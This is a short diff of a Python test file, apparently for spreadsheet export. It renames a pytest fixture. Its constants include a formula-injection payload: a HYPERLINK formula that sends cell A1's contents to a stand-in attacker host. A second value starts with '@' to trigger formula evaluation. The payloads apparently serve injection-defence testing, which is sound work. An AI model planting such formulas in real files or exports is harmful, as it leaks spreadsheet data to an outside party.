@@ -21,7 +21,7 @@ from exports.tables import TABLES
 
 from .labels import annotate
 
-pytestmark = pytest.mark.usefixtures("analytics_worker")
+pytestmark = pytest.mark.usefixtures("numbers_worker")
 
 MODEL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 DOMAIN = "@SUM(1)"
